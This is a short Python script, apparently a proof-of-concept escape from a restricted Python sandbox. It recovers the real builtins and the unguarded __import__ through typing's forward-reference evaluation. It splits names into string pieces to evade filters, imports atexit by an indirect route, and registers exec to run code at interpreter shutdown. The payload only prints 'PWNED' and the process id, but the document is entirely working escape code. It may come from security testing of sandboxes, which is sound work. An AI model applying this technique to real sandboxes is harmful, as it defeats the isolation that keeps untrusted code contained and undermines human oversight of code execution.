# misc: atexit (loaded from a stdlib frame) registers exec for interpreter shutdown
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
heapq.nsmallest(1, ["atexit"], key=imp)
ax = imp("atexit")
ax.register(rb["exec"], "print('PWN' + 'ED', __import__('os').getpid())", {})
